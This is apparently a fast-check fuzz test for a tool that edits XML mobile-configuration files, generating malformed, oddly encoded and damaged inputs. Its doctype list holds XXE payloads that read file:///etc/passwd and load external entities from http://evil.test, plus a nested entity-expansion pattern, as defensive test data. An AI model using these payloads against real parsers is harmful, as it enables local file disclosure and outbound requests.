import assert from 'node:assert/strict'
import fc from 'fast-check'
import { type DesiredSetting, settingName } from '../../src/desired-state/index.ts'
import { canEncode, decode, encode } from '../../src/mobile-config/encoding.ts'
import { insertionEdits } from '../../src/mobile-config/insertion.ts'
import { MOBILE_CONFIG_NAMESPACE } from '../../src/mobile-config/namespaces.ts'
import { planMobileConfig, type Rendered } from '../../src/mobile-config/render.ts'
import { applyEdits, type Edit } from '../../src/mobile-config/source-text.ts'
import { renderNow } from '../mobile-config/render-now.ts'
import { SETTINGS, setting } from '../mobile-config/settings.ts'
import { hostileLine } from './hostile-text.ts'
import { assertProblems, type FuzzTarget } from './target.ts'
import { type Scanned, type ScannedElement, scanXml } from './xml-scan.ts'

export interface XmlCase {
  readonly bytes: Uint8Array
  readonly settings: readonly DesiredSetting[]
}

const NAMES = [
  'SecuritySettings',
  'AuthType',
  'OAuthTokenURL',
  'OAuthScopes',
  'OAuthLogoutURL',
  'Push',
  'A',
  'B',
]
const ODD_NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'xmlns',
  'AUTHTYPE',
  'Auth.Type',
  'ä',
  '名',
  '𐐷',
  'm:AuthType',
  'x:AuthType',
  'xml:AuthType',
  'm:SecuritySettings',
  'x:SecuritySettings',
  'a:b:c',
  'u:A',
  ':A',
  'A:',
  'm:1',
  'xmlns:A',
]
const name = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NAMES) },
  { weight: 1, arbitrary: fc.constantFrom(...ODD_NAMES) },
)

/** What looks like an element that the action looks for. */
const lookAlike = fc.constantFrom(
  '<AuthType>Form</AuthType>',
  '<SecuritySettings enabled="false">',
  '</SecuritySettings>',
  '<SecuritySettings enabled="false"><AuthType>Form</AuthType></SecuritySettings>',
  '</config>',
  '<OAuthScopes/>',
  'x',
)

/** What a person leaves behind by mistake. */
const leftOver = fc.constantFrom('\n<<<<<<< HEAD\n', '\n=======\n', '\n>>>>>>> topic\n', ' -->', ']]>')

const blanks = fc.constantFrom(
  '',
  ' ',
  '\n',
  '\r\n',
  '\r',
  '\t',
  '\n\t\t',
  '\r\n  ',
  '\u00a0',
  '\u0085',
  '\u2028',
)

const comment = fc.oneof(
  { weight: 4, arbitrary: lookAlike.map((text) => `<!--${text}-->`) },
  { weight: 4, arbitrary: lookAlike.map((text) => `<?note ${text}?>`) },
  { weight: 2, arbitrary: fc.constantFrom('<!---->', '<?x?>', '<!-- ]]> ?> -->') },
  {
    weight: 1,
    arbitrary: fc.constantFrom('<!-- -- -->', '<?xml version="1.0"?>', '<![cdata[x]]>', '<!ELEMENT a ANY>'),
  },
)
const inert = fc.oneof(
  { weight: 3, arbitrary: comment },
  { weight: 1, arbitrary: lookAlike.map((text) => `<![CDATA[${text}]]>`) },
  { weight: 1, arbitrary: fc.constantFrom('<![CDATA[]]>', '<![CDATA[]]]]><![CDATA[>]]>') },
)

const characters = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom('Form', 'OAuth', 'true', ' OAuth ', 'x') },
  {
    weight: 6,
    arbitrary: fc.constantFrom(
      '&lt;AuthType&gt;',
      '&#65;',
      '&#x1F600;',
      '&amp;amp;',
      '&#10;',
      '&#32;',
      '&apos;',
      '&quot;',
    ),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      '&undefined;',
      '&a;',
      '&#0;',
      '&#xD800;',
      '&#x110000;',
      '&#99999999999999999999;',
      '&',
      '&#;',
      ']]>',
      '<',
      '>',
      '\u0000',
      '\ufffe',
      '\ud800',
    ),
  },
  { weight: 1, arbitrary: hostileLine.map((text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')) },
)

const XML = 'http://www.w3.org/XML/1998/namespace'
const XMLNS = 'http://www.w3.org/2000/xmlns/'

const attribute = fc.oneof(
  {
    weight: 24,
    arbitrary: fc.constantFrom(
      ' enabled="false"',
      " enabled='false'",
      ' enabled = "true"',
      ' enabled="1"',
      '\nenabled="a&#10;b>c"',
      ' name="a"',
      " m:enabled='x'",
    ),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      ' xmlns=""',
      ' xmlns="urn:x"',
      ` xmlns="${MOBILE_CONFIG_NAMESPACE}"`,
      ' xmlns:m="urn:x"',
      ` xmlns:x="${MOBILE_CONFIG_NAMESPACE}"`,
      ' xmlns:u=""',
      ' xmlns="http&#58;//www.ibm.com/mobile-config"',
      ' xmlns:xml="urn:x"',
      ` xmlns="${MOBILE_CONFIG_NAMESPACE} "`,
    ),
  },
  { weight: 2, arbitrary: fc.constantFrom(' x:a="x"', ' m:name="x"', ' n:name="x"', ' p:a="x"') },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      ' x:a="1" p:a="2"',
      ' n:b="1" m:b="2"',
      ' xsi:schemaLocation="a b"',
      ' :a="x"',
      ' a:="x"',
      ' a:b:c="x"',
      ' x:1="x"',
      ' xml:lang="en"',
      ` xmlns:xml="${XML}"`,
      ` xmlns:x="${XML}"`,
      ` xmlns="${XML}"`,
      ' xmlns:xml=""',
      ' xmlns:xmlns="urn:x"',
      ` xmlns:x="${XMLNS}"`,
      ' xmlns:="urn:x"',
      ' xmlns:1="urn:x"',
    ),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      ' __proto__="x"',
      ' constructor="x"',
      ' enabled="<"',
      ' enabled',
      ' enabled=x',
      'enabled="x"',
      ' enabled="&undefined;"',
      ' ä="ö"',
      ' /',
      ` a="${'x'.repeat(5000)}"`,
    ),
  },
)
const attributes = fc
  .uniqueArray(attribute, { maxLength: 2, selector: (each) => each.trim().split(/[ =]/)[0] })
  .map((all) => all.join(''))

/** Content of an element: an end tag may be missing or be of another element. */
const content: fc.Arbitrary<string> = fc.letrec<{ nodes: string; node: string; element: string }>((tie) => ({
  nodes: fc.array(tie('node'), { maxLength: 5, depthIdentifier: 'xml' }).map((nodes) => nodes.join('')),
  node: fc.oneof(
    { depthSize: 'small', depthIdentifier: 'xml' },
    { weight: 9, arbitrary: blanks },
    { weight: 1, arbitrary: leftOver },
    { weight: 6, arbitrary: inert },
    { weight: 6, arbitrary: characters },
    { weight: 18, arbitrary: tie('element') },
  ),
  element: fc
    .tuple(name, attributes, blanks, tie('nodes'), fc.constantFrom('', '', '', '', '', '', ' ', '\n', 'x'))
    .map(([tag, given, space, inner, end]) =>
      inner === '' && space !== ''
        ? `<${tag}${given}${end === 'x' ? '' : end}/>`
        : `<${tag}${given}>${space}${inner}</${tag}${end}>`,
    ),
})).nodes

/** Other ways to write wanted values; what means the same is left alone. */
const SAME: Readonly<Record<string, readonly string[]>> = {
  'SecuritySettings/@enabled': ['1'],
  'SecuritySettings/OAuthTokenURL': [
    'HTTPS://Login.MicrosoftOnline.com/contoso.com/oauth2/v2.0/token',
    'https://LOGIN.MICROSOFTONLINE.COM/contoso.com/oauth2/v2.0/token',
  ],
  'SecuritySettings/OAuthScopes': [
    'offline_access openid api://b850bc0a-0893-4cd7-8e22-9738a43c585d/default',
    'openid openid offline_access api://B850BC0A-0893-4CD7-8E22-9738A43C585D/default',
  ],
}

/** A security section as it should be, so that most files get as far as being edited. */
const section = fc
  .tuple(
    attributes,
    fc.uniqueArray(
      fc.oneof(
        comment,
        fc.constantFrom(' ', '\n', '\r\n\t'),
        fc
          .tuple(
            fc.constantFrom(...NAMES.slice(1)),
            fc.array(
              fc.oneof(
                {
                  weight: 3,
                  arbitrary: fc.constantFrom('Form', 'OAuth', ' ', ...Object.values(SAME).flat()),
                },
                characters,
                inert,
                blanks,
              ),
              { maxLength: 3 },
            ),
          )
          .map(([tag, inner]) => `<${tag}>${inner.join('')}</${tag}>`),
      ),
      { maxLength: 7, selector: (each) => /^<\w+/.exec(each)?.[0] ?? each },
    ),
  )
  .map(([given, inner]) => `<SecuritySettings${given}>${inner.join('')}</SecuritySettings>`)

const doctype = fc.constantFrom(
  '<!DOCTYPE config>',
  '<!DOCTYPE config SYSTEM "file:///etc/passwd">',
  '<!DOCTYPE config PUBLIC "-//x" "http://evil.test/x.dtd">',
  '<!DOCTYPE config [<!ENTITY a "b">]>',
  '<!DOCTYPE config [<!ENTITY a "&b;&b;"><!ENTITY b "&c;&c;"><!ENTITY c "x">]>',
  '<!DOCTYPE config [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
  '<!DOCTYPE config [<!ENTITY % p SYSTEM "http://evil.test/"> %p;]>',
  '<!DOCTYPE config [<!ATTLIST AuthType xmlns CDATA "urn:x">]>',
  `<!DOCTYPE config [<!ENTITY a "]><config xmlns='${MOBILE_CONFIG_NAMESPACE}'><SecuritySettings/></config><?x ">]>`,
  '<!DOCTYPE config [<!-- ]> <config> -->]>',
  '<!DOCTYPE config [ ] >',
  '<!DOCTYPE config[]>',
  '<!DOCTYPE config [ ] <!ENTITY a "b"> ]>',
  '<!DOCTYPE config SYSTEM "a[b>c" >',
  "<!DOCTYPE config PUBLIC '-//x' 'a[b>c'[ ]>",
  '<!DOCTYPE config PUBLIC "-//x""a">',
  '<!DOCTYPE config SYSTEM"a">',
  '<!DOCTYPE config SYSTEM "a" [<!ENTITY a "b">]>',
  '<!DOCTYPE html>',
  '<!doctype config>',
)

type Encoding = Parameters<typeof encode>[1]
const utf8: Encoding = { name: 'UTF-8', byteOrderMark: false }
const encodings: readonly Encoding[] = [
  utf8,
  { name: 'UTF-8', byteOrderMark: true },
  { name: 'UTF-16LE', byteOrderMark: true },
  { name: 'UTF-16BE', byteOrderMark: true },
  { name: 'UTF-16LE', byteOrderMark: false },
  { name: 'ISO-8859-1', byteOrderMark: false },
  { name: 'windows-1252', byteOrderMark: false },
  { name: 'ISO-8859-15', byteOrderMark: false },
  { name: 'ISO-8859-9', byteOrderMark: false },
  { name: 'KOI8-R', byteOrderMark: false },
]
const declarations: readonly (readonly [declaration: string, encoding: Encoding])[] = [
  ['', utf8],
  ['<?xml version="1.0"?>\n', encodings[1]!],
  ['<?xml version="1.0" encoding="UTF-8"?>\r\n', utf8],
  ["<?xml version='1.0' encoding='utf-8' standalone='yes' ?>", utf8],
  ['<?xml version="1.0" encoding="ISO-8859-1"?>', encodings[5]!],
  ['<?xml version="1.0" encoding="US-ASCII"?>', encodings[5]!],
  ['<?xml version="1.0" encoding="UTF-16"?>', encodings[2]!],
  ['<?xml version="1.0" encoding="UTF-16BE"?>', encodings[3]!],
  [`<?xml version="1.0"${' '.repeat(500)}encoding="ISO-8859-1"?>`, encodings[5]!],
  ['<?xml version="1.0" encoding="windows-1252"?>', encodings[6]!],
  ["<?xml version='1.0' encoding='Cp1252' ?>\r\n", encodings[6]!],
  ['<?xml version="1.0" encoding="iso-8859-15" standalone="no"?>', encodings[7]!],
  ['<?xml version="1.0" encoding="Latin5"?>', encodings[8]!],
  ['<?xml version="1.0"\nencoding="KOI8-R"?>', encodings[9]!],
  ['<?xml version="1.1"?>', utf8],
]
const wrongDeclarations = [
  '<?xml version="1.0" encoding="UTF-7"?>',
  '<?xml version="1.1" encoding="UTF-8"?>',
  '<?xml encoding="UTF-8"?>',
  ' <?xml version="1.0"?>',
  '<?xml version="1.0" encoding=""?>',
  '<?xml version="1.0" encoding?>',
  '<?xml version="1.0" standalone=""?>',
  '<?xml version="1.0" standalone="maybe"?>',
  '<?xml version="1.0"encoding="UTF-8"?>',
  '<?xml version="1.0" encoding="UTF-8"standalone="yes"?>',
  '<?xml version="1.0" standalone="yes" encoding="UTF-8"?>',
  '<?xml version="1.0" encoding="KOI8-U"?>',
  '\uFEFF',
  '\uFEFF<?xml version="1.0"?>',
  'version https://git-lfs.github.com/spec/v1\n',
  '{"a":1}',
  '<!-- x --><html>',
]
const declared = fc.oneof(
  { weight: 9, arbitrary: fc.constantFrom(...declarations) },
  {
    weight: 1,
    arbitrary: fc.tuple(
      fc.constantFrom(...wrongDeclarations, ...declarations.map(([text]) => text)),
      fc.constantFrom(...encodings),
    ),
  },
)

const rootAttributes = fc.oneof(
  {
    weight: 15,
    arbitrary: fc.constant(
      ` xmlns="${MOBILE_CONFIG_NAMESPACE}" xmlns:m="${MOBILE_CONFIG_NAMESPACE}" xmlns:x="urn:x" xmlns:p="urn:&#120;" xmlns:n="${MOBILE_CONFIG_NAMESPACE}"`,
    ),
  },
  { weight: 1, arbitrary: attributes },
)

const body = fc
  .record({
    before: fc.array(fc.oneof({ weight: 3, arbitrary: comment }, { weight: 1, arbitrary: doctype }), {
      maxLength: 1,
    }),
    tag: fc.oneof(
      { weight: 19, arbitrary: fc.constantFrom('config', 'm:config') },
      { weight: 1, arbitrary: fc.constantFrom('Config', 'x:config', 'constructor') },
    ),
    given: rootAttributes,
    inner: fc.tuple(
      fc.oneof(
        { weight: 1, arbitrary: content },
        {
          weight: 2,
          arbitrary: fc.constantFrom(
            '',
            '\n',
            '<!-- <SecuritySettings/> -->',
            '<A/>',
            '<A>x</A>',
            '\n\t<Push enabled="x"/>\n\t',
            '<Push><a/></Push>',
            '<A> <B/> </A>',
          ),
        },
      ),
      fc.oneof({ weight: 4, arbitrary: section }, { weight: 1, arbitrary: fc.constant('') }),
      blanks,
    ),
    trail: fc.oneof(
      { weight: 19, arbitrary: fc.constantFrom('', '\n', '<!-- x -->', '<?x ?>') },
      { weight: 1, arbitrary: fc.constantFrom('<a/>', 'x') },
    ),
  })
  .map(
    ({ before, tag, given, inner, trail }) =>
      `${before.join('')}<${tag}${given}>${inner.join('')}</${tag}>${trail}`,
  )

/** Some files are damaged: bytes are cut out, put in or written over. */
const damage = fc.oneof(
  { weight: 8, arbitrary: fc.constant(undefined) },
  {
    weight: 1,
    arbitrary: fc.record({
      at: fc.double({ min: 0, max: 1, noNaN: true }),
      cut: fc.nat(20),
      insert: fc.uint8Array({ maxLength: 4 }),
    }),
  },
)

/** Characters that the encoding lacks are written as one that every encoding has, in a name too. */
const written = (text: string, encoding: Encoding) =>
  [...text].map((character) => (canEncode(character, encoding) ? character : '_')).join('')

const bytes = fc.tuple(declared, body, damage).map(([[declaration, encoding], text, hit]) => {
  const whole = encode(written(declaration + text, encoding), encoding)
  if (!hit) return whole
  const at = Math.floor(hit.at * whole.length)
  return Buffer.concat([whole.subarray(0, at), hit.insert, whole.subarray(at + hit.cut)])
})

/** Values that the rules for inputs let through. */
const value = hostileLine.map((line) => line.trim())
const more = fc
  .tuple(
    fc.constantFrom(
      'A',
      'Push/@enabled',
      'A/B',
      'A/@__proto__',
      '__proto__',
      'constructor',
      '@version',
      'ä',
      '名',
      'A/@名',
      'SecuritySettings/A',
      'SecuritySettings/@ä',
      'Push/xmlns',
    ),
    value,
  )
  .map(([path, given]) => setting(path, given))
const settings = fc
  .tuple(
    fc.constantFrom(SETTINGS, SETTINGS.slice(0, 2), SETTINGS.slice(4)),
    fc.uniqueArray(more, { maxLength: 2, selector: settingName }),
  )
  .map((all) => all.flat())
  // An element holds a value or other elements: the rules for inputs refuse both.
  .map((all) =>
    all.some((each) => settingName(each) === 'A/B') ? all.filter((each) => settingName(each) !== 'A') : all,
  )

const WHERE = /^m\.xml:\d+:\d+$/

/** A file is refused with line and column; or exactly the wanted values are edited, and nothing else. */
function check({ bytes: given, settings: wanted }: XmlCase): void {
  const render = (file: Uint8Array) => renderNow({ path: 'm.xml', bytes: file }, wanted)
  let rendered: Rendered
  try {
    rendered = render(given)
  } catch (error) {
    assertProblems(error, WHERE, 3 * given.length + 2_000 * wanted.length + 10_000)
    return
  }
  assertSpliced(given, wanted, rendered)
  const again = render(rendered.bytes)
  assert.equal(again.bytes, rendered.bytes, 'rendering again gives other bytes')
  assert.deepEqual(again.changes, [])
}

function assertSpliced(given: Uint8Array, wanted: readonly DesiredSetting[], rendered: Rendered): void {
  const { text: before, encoding } = decode(given, 'm.xml')
  assert.ok(encode(before, encoding).equals(given), 'the bytes do not survive decoding')
  if (rendered.changes.length === 0) assert.equal(rendered.bytes, given)
  const planned = planMobileConfig({ path: 'm.xml', bytes: given }, wanted)
  const edits = [...planned.edits, ...insertionEdits(planned)]
  const after = applyEdits(before, edits)
  // Not compared by "equal": a difference of two long texts takes forever to show.
  assert.ok(decode(rendered.bytes, 'm.xml').text === after, 'the bytes hold another text')
  const scanned = scanXml(before, MOBILE_CONFIG_NAMESPACE)
  for (const edit of edits) assertAllowed(edit, before, scanned, wanted)
  const result = scanXml(after, MOBILE_CONFIG_NAMESPACE)
  for (const each of wanted) assertValue(result, each)
  const most = wanted.reduce((sum, each) => sum + 10 * each.value.length + 1_000, 0)
  assert.ok(after.length <= before.length + most, 'the file has grown without bounds')
}

/** An edit changes the content or the attribute of a wanted setting, or puts something in; never within what is no element. */
function assertAllowed(
  edit: Edit,
  before: string,
  { elements, inert: none }: Scanned,
  wanted: readonly DesiredSetting[],
): void {
  const { start, end } = edit
  for (const [from, to] of none)
    assert.ok(end <= from || start >= to, `an edit within ${before.slice(from, to)}`)
  if (start === end) return
  const isWithin = ([from, to]: readonly [number, number]) => from <= start && end <= to
  const isTarget = elements.some((element) => {
    if (!element.isOfNamespace) return false
    const own = wanted.filter((each) => samePath(each.elements, element.path))
    const isEmptyTag = before.slice(element.content[1]).startsWith('/>')
    const inContent = isEmptyTag ? isBlankThenClose(before, edit, element) : isWithin(element.content)
    const isParent = wanted.some(
      (each) =>
        each.elements.length > element.path.length &&
        samePath(each.elements.slice(0, element.path.length), element.path),
    )
    const givesValue = own.some((each) => each.attribute === undefined) || (isParent && isEmptyTag)
    return (
      (givesValue && inContent) ||
      own.some((each) =>
        element.attributes.some(({ name: key, range }) => key === each.attribute && isWithin(range)),
      )
    )
  })
  assert.ok(isTarget, `an edit of ${JSON.stringify(before.slice(start, end))}, which nobody wanted`)
}

/** The end of an empty-element tag, which is replaced by ">", content and an end tag. */
function isBlankThenClose(
  before: string,
  { start, end }: Edit,
  { content: [, slash] }: ScannedElement,
): boolean {
  return end === slash + 2 && before.slice(start, slash).trim() === ''
}

function assertValue({ elements }: Scanned, wanted: DesiredSetting): void {
  const { elements: path, attribute: key, value: given } = wanted
  const found = elements.filter((element) => element.isOfNamespace && samePath(element.path, path))
  assert.equal(found.length, 1, `${found.length} elements for ${path.join('/')}`)
  const [element] = found as [ScannedElement]
  const actual =
    key === undefined ? element.text : element.attributes.find((each) => each.name === key)?.value
  if (key === undefined) assert.equal(element.hasChildren, false)
  const value = trimmed(actual ?? 'no such attribute')
  const isStandard = SETTINGS.some(
    (each) => settingName(each) === settingName(wanted) && each.value === given,
  )
  if (isStandard && SAME[settingName(wanted)]?.includes(value)) return
  // Several of these lists in one are such a list too.
  if (isStandard && path.at(-1) === 'OAuthScopes') assert.deepEqual(scopeSet(value), scopeSet(given))
  else assert.equal(value, trimmed(given))
}

const SCOPE_OF_CLIENT = 'api://b850bc0a-0893-4cd7-8e22-9738a43c585d/default'

function scopeSet(scopes: string): Set<string> {
  const words = scopes.split(' ')
  return new Set(words.map((word) => (word.toLowerCase() === SCOPE_OF_CLIENT ? SCOPE_OF_CLIENT : word)))
}

function samePath(one: readonly string[], other: readonly string[]): boolean {
  return one.length === other.length && one.every((each, index) => each === other[index])
}

/** The server trims values as XML does. */
function trimmed(given: string): string {
  return given.replaceAll(/^[ \t\r\n]+|[ \t\r\n]+$/g, '')
}

export const xml: FuzzTarget<XmlCase> = {
  name: 'xml',
  share: 40,
  input: fc.record({ bytes, settings }),
  check,
}
